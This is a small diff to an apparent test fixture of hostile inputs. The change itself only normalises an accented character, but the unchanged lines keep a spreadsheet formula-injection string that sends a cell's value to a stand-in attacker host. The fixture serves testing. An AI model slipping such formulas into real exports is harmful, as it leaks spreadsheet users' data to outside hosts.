@@ -50,7 +50,7 @@ HOSTILE = {
     "long": "W" * 10_000,
     "formula": '=HYPERLINK("https://harm.example/?" & A1)',
     "controls": "a\tb\u2028c\u0000d",
-    "emoji": "\U0001f469\u200d\U0001f3eb Zo\u0301e",
+    "emoji": "\U0001f469\u200d\U0001f3eb Zo\u00eb",
 }
 
 
